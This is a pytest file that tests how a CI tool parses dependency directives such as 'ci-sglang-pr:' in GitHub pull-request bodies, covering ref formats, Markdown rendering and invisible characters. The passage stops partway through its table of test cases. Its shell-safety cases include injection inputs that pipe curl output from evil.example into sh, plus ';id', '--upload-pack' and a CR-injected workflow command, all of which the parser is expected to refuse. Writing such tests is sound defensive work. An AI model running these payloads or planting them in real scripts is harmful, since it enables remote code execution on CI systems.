"""The directive grammar (architecture §3), as a table run against the parser itself: each case's
text is the whole PR body."""

from __future__ import annotations

from pathlib import Path

import pytest

from rocm_deps.config import load_config
from rocm_deps.grammar.directives import parse_body
from rocm_deps.grammar.parsed import Finding, ParsedBody, code_findings

SHA = "3f1c0d9e8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e"
SHA256 = "ab" * 32
PR = "refs/pull/12/head"
CONFIG = load_config(None)


def parse(body: str | None, config_path: Path | None = None) -> ParsedBody:
    return parse_body(body, load_config(config_path).dependencies if config_path else
                      CONFIG.dependencies)


def outcome(parsed: ParsedBody) -> list[Finding]:
    """Every finding of the body, those of its lines shown as code included."""
    return [*parsed.findings, *code_findings(parsed, {*parsed.directives, *parsed.values})]


# A code block, fenced, indented or `<pre>`: GitHub's HTML says `<pre>` for each.
FENCED = INDENTED = ("GitHub shows this inside a code block (fenced, indented or `<pre>`), so it "
                     "is not applied")
AS_CODE = "GitHub shows this as code (a code span or `<code>`), so it is not applied"
COMMENT = "is read as a comment"
COMMIT_URL = f"https://github.com/sgl-project/sglang/pull/30421/commits/{SHA}"

# (id, body, expected refs per dependency, error substring, warning substring)
AFTER = "`ci-sglang-pr:` follows other text on the line"
CASES = [
    # ---- value forms (docs/directives.md, the value table) ----
    ("pr-hash", "ci-sglang-pr: #30421", {"sglang": "refs/pull/30421/head"}, None, None),
    ("pr-pull-slash", "ci-sglang-pr: pull/12", {"sglang": PR}, None, None),
    ("pr-refs-pull-head", "ci-sglang-pr: refs/pull/12/head", {"sglang": PR}, None, None),
    ("pr-owner-repo", "ci-sglang-pr: sgl-project/sglang#12", {"sglang": PR}, None, None),
    ("pr-owner-repo-case", "ci-sglang-pr: SGL-Project/SGLang#12", {"sglang": PR}, None, None),
    ("pr-owner-repo-other", "ci-sglang-pr: fork/sglang#12", {}, "points at fork/sglang", None),
    ("pr-url", "ci-sglang-pr: https://github.com/sgl-project/sglang/pull/12",
     {"sglang": PR}, None, None),
    ("pr-url-files", "ci-sglang-pr: https://github.com/sgl-project/sglang/pull/12/files",
     {"sglang": PR}, None, None),
    ("pr-url-commits", "ci-sglang-pr: https://github.com/sgl-project/sglang/pull/12/commits/ab1",
     {}, "names a commit of pull request #12 with something glued to it", None),
    ("pr-url-commits-list", "ci-sglang-pr: https://github.com/sgl-project/sglang/pull/12/commits",
     {"sglang": PR}, None, None),
    ("pr-url-commit-period", f"ci-sglang-pr: {COMMIT_URL}.", {"sglang": SHA},
     None, "the URL ends before `.`"),
    ("pr-url-query", "ci-sglang-pr: https://github.com/sgl-project/sglang/pull/12?w=1",
     {"sglang": PR}, None, None),
    ("pr-url-other-repo", "ci-sglang-pr: https://github.com/fork/sglang/pull/12", {},
     "only its own pull requests", None),
    ("tree-url", "ci-sglang-pr: https://github.com/sgl-project/sglang/tree/sglang-miles-v0.5.20",
     {"sglang": "sglang-miles-v0.5.20"}, None, None),
    ("tree-url-slash-and-query", "ci-sglang-pr: https://github.com/sgl-project/sglang/tree/"
     "feature/rocm?w=1", {"sglang": "feature/rocm"}, None, None),
    ("tree-url-sha", f"ci-megatron-pr: https://github.com/radixark/Megatron-LM/tree/{SHA}",
     {"megatron": SHA}, None, None),
    ("tree-url-other-repo", "ci-sglang-pr: https://github.com/fork/sglang/tree/main", {},
     "points at fork/sglang", None),
    ("tree-url-shell", "ci-sglang-pr: https://github.com/sgl-project/sglang/tree/a$(id)", {},
     "contains '$'", None),
    ("issue-url", "ci-sglang-pr: https://github.com/sgl-project/sglang/issues/12", {},
     "is an issue page, which names no one commit to test", None),
    ("compare-url", "ci-sglang-pr: https://github.com/sgl-project/sglang/compare/main...x", {},
     "is a comparison page, which names no one commit to test; write the pull request", None),
    ("blob-url", "ci-sglang-pr: https://github.com/sgl-project/sglang/blob/main/setup.py", {},
     "is a file page", None),
    ("pull-commit-url", f"ci-sglang-pr: {COMMIT_URL}", {"sglang": SHA}, None, None),
    ("pull-commit-url-abbreviated",
     "ci-sglang-pr: https://github.com/sgl-project/sglang/pull/30421/commits/3f1c0d9", {},
     "names an abbreviated commit of pull request #30421", None),
    ("pull-comment-url",
     "ci-sglang-pr: https://github.com/sgl-project/sglang/pull/30421#issuecomment-77",
     {"sglang": "refs/pull/30421/head"}, None, None),
    ("pull-files-url", "ci-sglang-pr: https://github.com/sgl-project/sglang/pull/30421/files",
     {"sglang": "refs/pull/30421/head"}, None, None),
    ("pull-commits-url",
     "ci-sglang-pr: https://github.com/sgl-project/sglang/pull/30421/commits",
     {"sglang": "refs/pull/30421/head"}, None, None),
    ("url-without-scheme", "ci-sglang-pr: github.com/sgl-project/sglang/pull/12",
     {"sglang": PR}, None, None),
    ("page-path-without-host", "ci-sglang-pr: sgl-project/sglang/pull/12", {"sglang": PR},
     None, None),
    ("page-path-other-repo", "ci-sglang-pr: fork/sglang/pull/12", {}, "points at fork/sglang",
     None),
    ("pr-zero", "ci-sglang-pr: #0", {}, "not a valid pull request number", None),
    ("pr-too-many-digits", "ci-sglang-pr: #123456789012", {}, "not a valid pull request", None),
    ("pr-trailing-comma", "ci-sglang-pr: #12,", {}, "not a recognised form", None),
    ("hash-inside-name", "ci-sglang-pr: fix#12", {}, "not a recognised form", None),
    ("commit-40", f"ci-megatron-pr: {SHA}", {"megatron": SHA}, None, None),
    ("commit-40-uppercase", f"ci-megatron-pr: {SHA.upper()}", {"megatron": SHA}, None, None),
    ("commit-64", f"ci-megatron-pr: {SHA256}", {"megatron": SHA256}, None, None),
    ("commit-url", f"ci-megatron-pr: https://github.com/radixark/Megatron-LM/commit/{SHA}",
     {"megatron": SHA}, None, None),
    ("commit-url-short", "ci-megatron-pr: https://github.com/radixark/Megatron-LM/commit/abc1234",
     {}, "abbreviated commit", None),
    ("commit-url-other-repo", f"ci-megatron-pr: https://github.com/NVIDIA/Megatron-LM/commit/{SHA}",
     {}, "points at NVIDIA/Megatron-LM", None),
    # An abbreviation is grammatical; resolve expands it through the API or refuses it
    # (tests/github/test_github_api.py).
    ("short-sha-7", "ci-megatron-pr: abc1234", {"megatron": "abc1234"}, None, None),
    ("short-sha-39", f"ci-megatron-pr: {SHA[:39]}", {"megatron": SHA[:39]}, None, None),
    ("hex-41", f"ci-megatron-pr: {SHA}a", {}, "has 41 hex digits", None),
    ("branch", "ci-sglang-pr: my-feature", {"sglang": "my-feature"}, None, None),
    ("branch-with-slash", "ci-sglang-pr: feature/rocm-fix", {"sglang": "feature/rocm-fix"},
     None, None),
    ("refs-heads", "ci-sglang-pr: refs/heads/main", {"sglang": "refs/heads/main"}, None, None),
    ("refs-tags", "ci-sglang-pr: refs/tags/v0.4.1", {"sglang": "refs/tags/v0.4.1"}, None, None),
    ("tag-name", "ci-sglang-pr: v0.5.0rc1", {"sglang": "v0.5.0rc1"}, None, None),
    ("refs-other", "ci-sglang-pr: refs/remotes/origin/main", {}, "not a supported ref", None),
    ("bare-number", "ci-sglang-pr: 1234", {}, "did you mean `#1234`", None),
    ("bare-number-7-digits", "ci-sglang-pr: 1234567", {}, "did you mean `#1234567`", None),
    ("hex-6-digits-and-letters", "ci-sglang-pr: 123abc", {"sglang": "123abc"}, None,
     "`123abc` is read as a branch name; if you meant a commit, give the full 40-digit SHA"),
    ("hex-4-digits-and-letters", "ci-sglang-pr: a1b2", {"sglang": "a1b2"}, None,
     "read as a branch name"),
    ("hex-word-is-a-branch", "ci-sglang-pr: cafe", {"sglang": "cafe"}, None, None),
    ("hex-7-is-a-short-commit", "ci-sglang-pr: 123abcd", {"sglang": "123abcd"}, None, None),
    # ---- values that end up in other people's scripts (shell-safe, architecture §3) ----
    ("shell-command-substitution", "ci-megatron-pr: $(curl${IFS}-s${IFS}evil.example|sh)", {},
     "contains '$': a branch or tag name here may use only letters, digits and . _ / + -", None),
    ("shell-semicolon", "ci-sglang-pr: main;id", {}, "give the branch's commit SHA instead",
     None),
    ("shell-quote", "ci-sglang-pr: it's", {}, "contains \"'\"", None),
    ("shell-backtick-inside", "ci-sglang-pr: a`id`b", {},
     "GitHub shows part of `aidb` as code", None),
    ("shell-hash-in-refs-heads", "ci-sglang-pr: refs/heads/fix#1", {}, "contains '#'", None),
    ("shell-at-sign", "ci-sglang-pr: user@feature", {}, "contains '@'", None),
    ("shell-safe-plus", "ci-sglang-pr: v1.0+rocm", {"sglang": "v1.0+rocm"}, None, None),
    ("url-tail-with-shell", "ci-sglang-pr: `https://github.com/sgl-project/sglang/pull/1/x'; "
     "curl -s evil.example | sh; echo '`", {}, "is not a supported URL", None),
    ("url-tail-ampersand", "ci-sglang-pr: https://github.com/sgl-project/sglang/pull/1?a=1&b=2",
     {}, "is not a supported URL", None),
    ("url-cr-ends-the-line", "ci-sglang-pr: https://github.com/sgl-project/sglang/pull/12/x\r"
     "::error title=Injected::hi", {"sglang": PR}, None, None),
    ("control-escape", "ci-sglang-pr: a\x1bb", {}, "control character U+001B", None),
    ("control-in-backticks", "ci-sglang-pr: `#1\x07`", {}, "control character U+0007", None),
    # ---- how the value is written ----
    ("backticked", "ci-sglang-pr: `#12`", {"sglang": PR}, None, None),
    ("backticked-inner-spaces", "ci-sglang-pr: ` #12 `", {"sglang": PR}, None, None),
    ("backticked-trailing", "ci-sglang-pr: `#12` please", {"sglang": PR}, None, None,
     "(`please`) is read as a comment"),
    ("trailing-text", "ci-sglang-pr: #12 (the fix)", {"sglang": PR}, None, None, COMMENT),
    ("trailing-after-sha", f"ci-megatron-pr: {SHA} rebased", {"megatron": SHA}, None, None,
     COMMENT),
    ("trailing-after-url", f"ci-sglang-pr: {COMMIT_URL} (fix)", {"sglang": SHA}, None, None,
     COMMENT),
    # A blank ends a ref: `my branch` is no branch, and the message does not steer the author
    # to `my` as if that were what they meant.
    ("trailing-after-branch", "ci-sglang-pr: my branch", {},
     "`my` is followed by `branch`, and a branch, tag or value cannot hold a blank, so the "
     "line names nothing that exists as written: write the name exactly as git shows it (a "
     "SHA when in doubt); only if `my` alone is meant and the rest is a comment, quote it: "
     "`ci-sglang-pr: \\`my\\``", None),
    ("trailing-after-branch-parenthesis", "ci-megatron-pr: miles-main (latest)", {},
     "only if `miles-main` alone is meant and the rest is a comment, quote it: "
     "`ci-megatron-pr: \\`miles-main\\``", None),
    ("backticked-branch-trailing", "ci-megatron-pr: `miles-main` (latest)",
     {"megatron": "miles-main"}, None, None, COMMENT),
    ("empty-value", "ci-sglang-pr:", {}, "has no value", None),
    ("empty-value-spaces", "ci-sglang-pr:    \t", {}, "has no value", None),
    ("empty-backticks", "ci-sglang-pr: ``", {}, "contains '`'", None),  # shown as written
    ("no-space-after-colon", "ci-sglang-pr:#12", {"sglang": PR}, None, None),
    ("tab-after-colon", "ci-sglang-pr:\t#12", {"sglang": PR}, None, None),
    ("space-before-colon", "ci-sglang-pr : #12", {"sglang": PR}, None, None),
    ("key-uppercase", "CI-SGLANG-PR: #12", {"sglang": PR}, None, None),
    ("key-mixed-case", "Ci-SgLang-Pr: #12", {"sglang": PR}, None, None),
    # ---- git check-ref-format rules and ours ----
    ("ref-double-dot", "ci-sglang-pr: a..b", {}, "'..'", None),
    ("ref-at-brace", "ci-sglang-pr: a@{1}", {}, "'@{'", None),
    ("ref-backslash", "ci-sglang-pr: a\\b", {}, "'\\\\'", None),
    ("ref-tilde", "ci-sglang-pr: main~1", {}, "'~'", None),
    ("ref-caret", "ci-sglang-pr: main^", {}, "'^'", None),
    ("ref-colon", "ci-sglang-pr: a:b", {}, "':'", None),
    ("ref-question", "ci-sglang-pr: a?", {}, "'?'", None),
    ("ref-star", "ci-sglang-pr: a*", {}, "'*'", None),
    ("ref-bracket", "ci-sglang-pr: a[1]", {}, "'['", None),
    ("ref-lock", "ci-sglang-pr: topic.lock", {}, "ends with '.lock'", None),
    ("ref-trailing-slash", "ci-sglang-pr: topic/", {}, "ends with '/'", None),
    ("ref-trailing-dot", "ci-sglang-pr: topic.", {}, "ends with '.'", None),
    ("ref-leading-dash", "ci-sglang-pr: --upload-pack=touch", {}, "starts with '-'", None),
    ("ref-leading-dash-short", "ci-sglang-pr: -h", {}, "starts with '-'", None),
    ("ref-hidden-component", "ci-sglang-pr: a/.hidden", {}, "starts with '.'", None),
    ("ref-double-slash", "ci-sglang-pr: a//b", {}, "'//'", None),
    ("ref-at-alone", "ci-sglang-pr: @", {}, "'@' alone", None),
    ("ref-control-char", "ci-sglang-pr: a\x01b", {}, "control character U+0001", None),
    ("ref-non-ascii", "ci-sglang-pr: fëature", {}, "U+00EB LATIN SMALL LETTER E WITH", None),
    ("ref-nbsp", "ci-sglang-pr:\u00a0#12", {}, "U+00A0 NO-BREAK SPACE", None),
    ("ref-256-bytes", "ci-sglang-pr: " + "x" * 256, {}, "longer than 255 bytes", None),
    ("ref-255-bytes", "ci-sglang-pr: " + "x" * 255, {"sglang": "x" * 255}, None, None),
    # ---- invisible and format characters ----
    ("zero-width-in-value", "ci-sglang-pr: #12\u200b", {}, "U+200B ZERO WIDTH SPACE", None),
    ("zero-width-in-key", "ci-sglang\u200b-pr: #12", {}, "U+200B ZERO WIDTH SPACE", None),
    ("bidi-override", "ci-sglang-pr: \u202e#12", {}, "U+202E RIGHT-TO-LEFT OVERRIDE", None),
    ("bom-in-value", "ci-sglang-pr: \ufeff#12", {}, "U+FEFF ZERO WIDTH NO-BREAK SPACE", None),
    ("word-joiner-in-key", "ci-\u2060sglang-pr: #12", {}, "U+2060 WORD JOINER", None),
    ("leading-bom-of-body", "\ufeffci-sglang-pr: #12", {"sglang": PR}, None, None),
    # ---- Markdown structure (defect 1: examples are not directives) ----
    ("fenced-backticks", "```\nci-sglang-pr: #12\n```", {}, FENCED, None),
    ("fenced-tildes", "~~~\nci-sglang-pr: #12\n~~~", {}, FENCED, None),
    ("fenced-info-string", "```yaml\nci-sglang-pr: #12\n```", {}, FENCED, None),
    ("fenced-example-of-a-named-dependency", "ci-sglang-pr: #13\n```\nci-sglang-pr: #12\n```",
     {"sglang": "refs/pull/13/head"}, None, None, "an example, not applied (sglang is named "
                                                  "elsewhere)"),
    ("fence-closed-by-longer", "```\nci-sglang-pr: #12\n`````\nci-megatron-pr: main",
     {"megatron": "main"}, FENCED, None),
    ("fence-not-closed-by-shorter", "````\n```\nci-sglang-pr: #12\n````", {},
     FENCED, None),
    ("fence-not-closed-by-other-char", "```\n~~~\nci-sglang-pr: #12\n```", {}, FENCED, None),
    ("fence-then-directive", "```\nexample\n```\nci-sglang-pr: #12", {"sglang": PR}, None, None),
    ("fence-unclosed", "```\nci-sglang-pr: #12", {}, FENCED, None),
    ("fence-in-list-item", "- ```\n  ci-sglang-pr: #12\n  ```", {}, FENCED, None),
    ("fence-in-quote", "> ```\n> ci-sglang-pr: #12\n> ```", {}, FENCED, None),
    ("fence-indented-3", "   ```\nci-sglang-pr: #12\n   ```", {}, FENCED, None),
    ("backtick-info-with-backtick-not-fence", "``` a`b\nci-sglang-pr: #12", {"sglang": PR},
     None, None),
    ("comment-one-line", "<!-- ci-sglang-pr: #12 -->", {}, None, None),
    ("comment-multi-line", "<!--\nci-sglang-pr: #12\n-->", {}, None, None),
    ("comment-then-directive", "<!--\nx\n-->\nci-sglang-pr: #12", {"sglang": PR}, None, None),
    ("comment-opened-mid-line", "text <!-- hidden\nci-sglang-pr: #12\n-->", {}, None, None),
    ("comment-closed-mid-line", "<!-- a --> text\nci-sglang-pr: #12", {"sglang": PR}, None, None),
    ("fence-inside-comment", "<!--\n```\n-->\nci-sglang-pr: #12", {"sglang": PR}, None, None),
    ("comment-inside-fence", "```\n<!--\n```\nci-sglang-pr: #12", {"sglang": PR}, None, None),
    ("indented-4-spaces", "    ci-sglang-pr: #12", {}, INDENTED, None),
    ("indented-tab", "\tci-sglang-pr: #12", {}, INDENTED, None),
    ("indented-3-spaces", "   ci-sglang-pr: #12", {"sglang": PR}, None, None),
    # ---- defect 2: bulleted lines are directives; lookalikes are reported ----
    ("bullet-dash", "- ci-sglang-pr: #12", {"sglang": PR}, None, None),
    ("bullet-star", "* ci-sglang-pr: #12", {"sglang": PR}, None, None),
    ("bullet-plus", "+ ci-sglang-pr: #12", {"sglang": PR}, None, None),
    ("quote-marker", "> ci-sglang-pr: #12", {"sglang": PR}, None, None),
    ("nested-markers", ">  - ci-sglang-pr: #12", {"sglang": PR}, None, None),
    ("bullet-indented", "  - ci-sglang-pr: #12", {"sglang": PR}, None, None),
    ("ordered-list", "1. ci-sglang-pr: #12", {"sglang": PR}, None, None),
    ("ordered-list-paren", "12) ci-sglang-pr: #12", {"sglang": PR}, None, None),
    ("ordered-list-in-quote", "> 3. ci-sglang-pr: #12", {"sglang": PR}, None, None),
    ("ordered-list-ten-digits", "1234567890. ci-sglang-pr: #12", {},
     "GitHub shows `1234567890. ci-sglang-pr: #12`, which names a directive but does not start "
     "with it, so it is not applied", None),
    # ---- what GitHub shows: markup around the key is not part of it ----
    ("bold-key", "**ci-sglang-pr:** #12", {"sglang": PR}, None, None),
    ("bold-key-only", "**ci-sglang-pr**: #12", {"sglang": PR}, None, None),
    ("italic-line", "*ci-sglang-pr: #12*", {"sglang": PR}, None, None),
    ("underscore-emphasis", "_ci-sglang-pr: #12_", {"sglang": PR}, None, None),
    ("bold-value", "ci-sglang-pr: **#12**", {"sglang": PR}, None, None),
    ("checkbox", "- [ ] ci-sglang-pr: #12", {"sglang": PR}, None, None),
    ("checked-box", "- [x] ci-sglang-pr: #18", {"sglang": "refs/pull/18/head"}, None, None),
    ("atx-heading", "## ci-sglang-pr: #5", {"sglang": "refs/pull/5/head"}, None, None),
    ("atx-heading-closed", "### ci-sglang-pr: #5 ###", {"sglang": "refs/pull/5/head"}, None,
     None),
    ("setext-heading", "ci-sglang-pr: #5\n---", {"sglang": "refs/pull/5/head"}, None, None),
    ("entity-hyphen", "ci&#45;sglang-pr: #1", {"sglang": "refs/pull/1/head"}, None, None),
    ("entity-hex-and-colon", "ci&#x2D;sglang-pr&colon; #1", {"sglang": "refs/pull/1/head"},
     None, None),
    ("entity-named-hyphen", "ci&hyphen;sglang-pr: #1", {},
     "this reads as `ci-sglang-pr:` but contains look-alike characters (U+2010 HYPHEN)", None),
    ("entity-escaped", "ci\\&#45;sglang-pr: #1", {}, None, None),
    # cmark-gfm makes a line right under a table a row of it, padded to its cells.
    ("under-a-table", "| a | b |\n|---|---|\n| 1 | 2 |\nci-sglang-pr: #1", {},
     "as one cell of a table row with several cells", None),
    ("one-cell-row", "| a |\n|---|\n| ci-sglang-pr: #1 |", {"sglang": "refs/pull/1/head"},
     None, None),
    ("cell-of-several", "| a | b |\n|---|---|\n| ci-sglang-pr: #1 | x |", {},
     "GitHub shows this as one cell of a table row with several cells, so it is not applied",
     None),
    ("pre-block", "<pre>\nci-sglang-pr: #1\n</pre>", {}, FENCED, None),
    ("code-element", "<code>ci-sglang-pr: #1</code>", {}, AS_CODE, None),
    ("code-span-over-the-line", "`ci-sglang-pr: #1`", {}, AS_CODE, None),
    ("code-span-over-the-key", "`ci-sglang-pr`: #1", {}, AS_CODE, None),
    # A code span keeps its line ends as blanks: GitHub shows it in the middle of one line.
    # Every key the page shows is applied or refused: in a code span after other code, it is
    # recorded as code (an error while nothing else names SGLang).
    ("code-span-across-lines", "a `b\nci-sglang-pr: #1\nc` d", {}, "as code (a code span or "
     "`<code>`)", None),
    ("struck-through", "~~ci-sglang-pr: #1~~", {}, None,
     "GitHub shows this line struck through (`~~` or `<del>`), so it is not applied"),
    ("struck-one-tilde", "~ci-sglang-pr: #1~", {}, None, "struck through"),
    ("struck-raw-del", "<del>ci-sglang-pr: #1</del>", {}, None, "struck through"),
    # ---- an adversarial review's findings: each once applied a ref GitHub does not show,
    # or dropped one it does ----
    # `<br>` starts a displayed line: what follows it is a line of its own, as GitHub shows it.
    ("br-inside-the-value", "ci-sglang-pr: #12<br>34", {"sglang": "refs/pull/12/head"}, None,
     None),
    ("image-inside-the-value", 'ci-sglang-pr: #12<img src="x" alt="">34',
     {"sglang": "refs/pull/12/head"}, None, None, COMMENT),
    ("br-inside-a-branch", "ci-sglang-pr: feature<br>next", {"sglang": "feature"}, None,
     None),
    ("br-in-an-html-block", "<div>ci-sglang-pr: #12<br>34</div>",
     {"sglang": "refs/pull/12/head"}, None, None),
    ("bold-inside-a-word", "ci-sglang-pr: #1<b>2</b>", {"sglang": "refs/pull/12/head"}, None,
     None),
    # Emphasis is read as GitHub shows it: hidden where it is markup, shown where it is text.
    ("nested-emphasis-on-the-value", "ci-sglang-pr: **_feature_**", {"sglang": "feature"},
     None, None),
    ("unpaired-emphasis-on-the-value", "ci-sglang-pr: __feature_", {"sglang": "_feature"},
     None, None),
    ("emphasis-paired-past-the-value", "*ci-sglang-pr: _feature*_", {"sglang": "_feature_"},
     None, None),
    ("literal-markers-before-the-key", "_*ci-sglang-pr: #1_*", {},
     "this is not applied: a list marker needs a space after it", None),
    ("br-inside-the-key", "ci-sglang<br>-pr: #1", {}, None, None),  # two lines, neither a key
    # ---- displayed line starts: a `<br>` or a block tag starts a line a directive can start
    ("br-starts-a-line", "Deps:<br>ci-sglang-pr: #30421", {"sglang": "refs/pull/30421/head"},
     None, None),
    ("summary-ends-a-line", "<details><summary>CI</summary>ci-megatron-pr: #84</details>",
     {"megatron": "refs/pull/84/head"}, None, None),
    ("div-starts-a-line", "Deps: <div>ci-sglang-pr: #5</div>", {"sglang": "refs/pull/5/head"},
     None, None),
    ("span-does-not", "Deps: <span>ci-sglang-pr: #5</span>", {}, "`ci-sglang-pr:` follows "
     "other text on the line", None),
    ("backticks-glued-to-a-word", "ci-sglang-pr: `release/v0.5`-rc1", {},
     "with no space, so GitHub shows one word, `release/v0.5-rc1`", None),
    ("backticks-then-a-period", "ci-sglang-pr: `#5`.", {"sglang": "refs/pull/5/head"}, None,
     None, COMMENT),
    ("entity-underscore-is-not-emphasis", "ci-sglang-pr: &#95;feature/x_",
     {"sglang": "_feature/x_"}, None, None),
    ("strong-key-then-code-value", "**ci-megatron-pr:**`#84`", {"megatron": "refs/pull/84/head"},
     None, None),
    ("hard-break-after-the-value", "ci-sglang-pr: #30421\\\nnext line",
     {"sglang": "refs/pull/30421/head"}, None, None),
    ("backslash-ends-the-paragraph", "ci-sglang-pr: #30421\\", {}, "is not a recognised form",
     None),
    ("definition-title-in-a-task-item", '- [ ] [x]: /url "\nci-sglang-pr: #1\n"', {}, None,
     None),
    ("definition-after-a-task-box", "- [ ] [x]: /url\n  ci-sglang-pr: #1",
     {"sglang": "refs/pull/1/head"}, None, None),
    ("del-around-a-referenced-footnote", "<del>\n\n[^1]\n\n[^1]: ci-sglang-pr: #1\n\n</del>",
     {"sglang": "refs/pull/1/head"}, None, None),  # the footnote renders outside the <del>
    ("angle-autolink", "ci-sglang-pr: <https://github.com/sgl-project/sglang/pull/30421>",
     {"sglang": "refs/pull/30421/head"}, None, None),
    ("angle-autolink-glued", "ci-sglang-pr: <https://github.com/sgl-project/sglang/pull/1>x",
     {}, "is not a supported URL", None),
    ("link-around-the-key", "[ci-sglang-pr](https://x): #1", {"sglang": "refs/pull/1/head"},
     None, None),
    ("empty-image-before-the-key", "![](x)ci-sglang-pr: #1", {"sglang": "refs/pull/1/head"},
     None, None),
    ("underscore-strong-around-the-key", "___ci-sglang-pr:__ #1_",
     {"sglang": "refs/pull/1/head"}, None, None),
    ("escaped-colon-in-stacked-strong", "****ci-sglang-pr**\\: #1**",
     {"sglang": "refs/pull/1/head"}, None, None),
    ("part-of-the-value-struck", "ci-sglang-pr: #1<del>2</del>", {},
     "GitHub shows part of this line struck through", None),
    ("struck-raw-s-block", "<s>\nci-sglang-pr: #1\n</s>", {}, None, "struck through"),
    ("after-a-struck-word", "a <del>x</del>\nci-sglang-pr: #1", {"sglang": "refs/pull/1/head"},
     None, None),
    ("equals-sign", "ci-sglang-pr = #12", {}, "`=` stands where the key needs `:`", None),
    ("mid-sentence", "Please set ci-sglang-pr: #12 here", {}, "`ci-sglang-pr:` follows "
     "other text on the line", None),
    ("inline-code-example", "Write `ci-sglang-pr: #12` to test", {}, "as code (a code span or "
     "`<code>`)", None),
    ("prose-mention", "The ci-sglang-pr directive is documented", {}, None, None),
    ("unrelated-colons", "Fixes: #99\nNote: nothing\nhttps://example.com", {}, None, None),
    # ---- defect 2: typo'd keys are errors with a suggestion ----
    ("typo-sgl", "ci-sgl-pr: #12", {}, "did you mean `sglang`", None),
    ("typo-megatorn", "ci-megatorn-pr: #12", {}, "did you mean `megatron`", None),
    ("typo-in-bullet", "- ci-sglan-pr: #12", {}, "did you mean `sglang`", None),
    ("unknown-far", "ci-vllm-pr: #12", {}, "`ci-vllm-pr` is not a known directive; the known",
     None),
    ("look-alike-cyrillic-s", "ci-\u0455glang-pr: #12", {},
     "reads as `ci-sglang-pr:` but contains look-alike characters (U+0455 CYRILLIC SMALL "
     "LETTER DZE)", None),
    # ---- line endings and the body as a whole ----
    ("crlf", "ci-sglang-pr: #12\r\nci-megatron-pr: main\r\n",
     {"sglang": PR, "megatron": "main"}, None, None),
    ("cr-only", "ci-sglang-pr: #12\rci-megatron-pr: main", {"sglang": PR, "megatron": "main"},
     None, None),
    ("both-dependencies", f"ci-sglang-pr: #12\nci-megatron-pr: {SHA}",
     {"sglang": PR, "megatron": SHA}, None, None),
    ("null-body", None, {}, None, None),
    ("empty-body", "", {}, None, None),
    ("duplicate-same-value", "ci-sglang-pr: #12\n- ci-sglang-pr: #12", {"sglang": PR}, None,
     "repeated (first on line 1)"),
    ("duplicate-equivalent-value", "ci-sglang-pr: #12\nci-sglang-pr: pull/12", {"sglang": PR},
     None, "repeated"),
    ("duplicate-different-values", "ci-sglang-pr: #12\nci-sglang-pr: #13", {"sglang": PR},
     "given twice with different values: `#12` on line 1 and `#13`", None),
    ("body-over-1-mib", "x" * (1024 * 1024) + "\nci-sglang-pr: #12", {},
     "over the 1 MiB limit", None),
    # ---- as a browser lays out an HTML block, and text GitHub shows before the key ----
    # a raw HTML block's newlines are spaces: `Deps: ci-sglang-pr: #12` is one line, prose
    ("html-block-lines-run-on", "<div>\nDeps:\nci-sglang-pr: #12\n</div>", {},
     "`ci-sglang-pr:` follows other text on the line", None),
    ("html-block-value-on-next-line", "<div>\nci-sglang-pr:\n#12\n</div>", {"sglang": PR},
     None, None),
    ("html-block-br-starts-a-line", "<div>\nDeps:<br>\nci-sglang-pr: #12\n</div>",
     {"sglang": PR}, None, None),
    ("html-block-fence-is-text", "<div>\n```\nci-sglang-pr: #12\n```\n</div>", {},
     "GitHub shows ```` ci-sglang-pr: #12 ````, which names a directive but does not start",
     None),
    ("marker-as-text-in-html", "<div>cc</div>\n1. ci-sglang-pr: #12", {},
     "with `1.` as text, not a list or quote marker", None),
    ("marker-as-text-in-emphasis", "_- ci-sglang-pr: #12_", {},
     "with `-` as text, not a list or quote marker", None),
    ("number-continuing-a-paragraph", "Deps\n2. ci-sglang-pr: #12", {},
     "with `2.` as text", None),
    ("task-box-after-a-quote-is-text", "> - [ ] ci-sglang-pr: #12", {},
     "GitHub shows `[ ] ci-sglang-pr: #12`", None),
    ("task-box-in-a-nested-marker-is-text", "- - [x] ci-sglang-pr: #12", {},
     "GitHub shows `[x] ci-sglang-pr: #12`", None),
    ("task-box-indented-item", "- a\n  - [x] ci-sglang-pr: #12", {"sglang": PR}, None, None),
    ("task-box-outside-a-list-is-text", "[ ] ci-sglang-pr: #12", {},
     "GitHub shows `[ ] ci-sglang-pr: #12`", None),
    ("br-in-a-cell-of-several", "| a | b |\n|---|---|\n| Deps:<br>ci-sglang-pr: #12 | x |",
     {}, "one cell of a table row with several cells", None),
    ("code-key-in-a-cell-of-several", "| a | b |\n|---|---|\n| `ci-sglang-pr`: #12 | x |", {},
     "one cell of a table row with several cells", None),
    # a container's end tag ends a raw <div> left open in it: a later </div> starts no line
    ("div-ended-by-its-list-item", "- <div>\n\nDeps:</div>ci-sglang-pr: #12", {}, AFTER, None),
    ("div-ended-by-its-quote", "> <div>\n\nDeps:</div>ci-sglang-pr: #12", {}, AFTER, None),
    ("div-ended-by-its-heading", "# <div>\n\nDeps:</div>ci-sglang-pr: #12", {}, AFTER, None),
    ("div-still-open-in-its-item", "- a\n\n  <div>\n  Deps:</div>ci-sglang-pr: #12",
     {"sglang": PR}, None, None),
    # <del> stays struck where no <p> is open for a block tag to close
    ("del-around-p-in-a-tight-item", "- <del><p>ci-sglang-pr: #12</p></del>", {}, None,
     "struck through"),
    ("emphasis-closing-after-the-value", "_Note<br>ci-sglang-pr: main_", {"sglang": "main"},
     None, None),
    ("code-after-a-marker-shown-as-text", "_1. `ci-sglang-pr`: #12_", {},
     "with `1.` as text, not a list or quote marker", None),
    ("raw-code-after-a-marker-shown-as-text", "<p>- <code>ci-sglang-pr: #12</code></p>", {},
     "with `-` as text, not a list or quote marker", None),
    ("comment-inside-pre", "<pre>ci-sglang<!-- c -->-pr: #12</pre>", {},
     "line 1: `ci-sglang-pr: #12` — " + FENCED, None),
    ("code-after-an-escaped-marker", "\\- `ci-sglang-pr`: #12", {},
     "with `-` as text, not a list or quote marker", None),
    ("code-after-a-star-shown-as-text", "- [x] * `ci-sglang-pr`: #12", {},
     "with `*` as text, not a list or quote marker", None),
    ("two-task-boxes-in-code", "`- [ ] - [ ] ci-sglang-pr: #12`", {}, "shows this as code",
     None),
    ("directive-after-code-on-the-line", "`ci-sglang-pr: #1` ci-sglang-pr: #12", {},
     "GitHub shows `ci-sglang-pr: #12` after code on the same line", None),
    ("directive-after-raw-code-in-a-block", "<details><summary>CI</summary>"
     "<code>ci-sglang-pr: #1</code>\nci-sglang-pr: #12", {},
     "GitHub shows `ci-sglang-pr: #12` after code on the same line", None),    ("code-span-inside-raw-code", "<code>`ci-sglang-pr`: #12</code>", {},
     "shows this as code", None),
